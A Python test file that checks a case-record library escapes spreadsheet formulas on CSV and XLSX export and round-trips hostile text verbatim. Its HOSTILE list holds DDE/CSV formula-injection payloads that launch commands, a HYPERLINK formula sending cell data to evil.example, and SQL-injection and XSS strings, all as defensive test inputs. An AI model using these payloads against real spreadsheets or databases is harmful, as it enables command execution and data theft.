"""Hostile-looking text is data: stored verbatim, and never exported as a live spreadsheet formula."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pytest

from zhili.cases import Case, Source
from zhili.cases.io import read_cases, write_cases
from zhili.cases.tabular import escape, unescape

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点这里\")",
    "'=already quoted",
    "''double",
    "'; DROP TABLE cases; --",
    "<script>alert('xss')</script>",
    "Robert'); DELETE FROM meta;--",
]


def _hostile_cases() -> list[Case]:
    return [
        Case(id=f"h-{i}", title=text, problem=text, mechanisms=[text.replace("；", "")],
             source=Source(publisher="=1+1", title=text, url="https://example.org/?q=1+1", date=""))
        for i, text in enumerate(HOSTILE)
    ]


def test_escape_is_inverted_exactly() -> None:
    for text in HOSTILE + ["", "'", "''", "'abc", "普通文本", "\t=x", "a=b"]:
        assert unescape(escape(text)) == text
    assert escape("=1+1") == "'=1+1" and escape("普通") == "普通" and escape("'abc") == "'abc"


@pytest.mark.parametrize("name", ["h.csv", "h.xlsx", "h.jsonl"])
def test_hostile_text_round_trips_verbatim(tmp_path: Path, name: str) -> None:
    cases = _hostile_cases()
    assert read_cases(write_cases(cases, tmp_path / name)) == cases


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    path = write_cases(_hostile_cases(), tmp_path / "h.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert rows[1][1] == "'=cmd|' /C calc'!A0"


def test_xlsx_export_has_no_formula_cells(tmp_path: Path) -> None:
    path = write_cases(_hostile_cases(), tmp_path / "h.xlsx")
    ws = openpyxl.load_workbook(path)["案例"]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@")), cell.value


def test_unescaped_formulas_in_input_are_stored_as_plain_text(tmp_path: Path) -> None:
    path = tmp_path / "raw.csv"
    path.write_text('id,title,problem\nr1,=cmd|\' /C calc\'!A0,<script>alert(1)</script>\n', encoding="utf-8")
    [case] = read_cases(path)
    assert case.title == "=cmd|' /C calc'!A0" and case.problem == "<script>alert(1)</script>"
    wb = openpyxl.Workbook()
    wb.active.append(["id", "title"])
    wb.active.append(["r2", "=1+1"])  # a real formula cell, as Excel would save it
    wb.save(tmp_path / "formula.xlsx")
    assert read_cases(tmp_path / "formula.xlsx")[0].title == "=1+1"


def test_jsonl_keeps_hostile_text_unescaped(tmp_path: Path) -> None:
    path = write_cases(_hostile_cases()[:1], tmp_path / "h.jsonl")
    assert json.loads(path.read_text(encoding="utf-8"))["title"] == "=cmd|' /C calc'!A0"
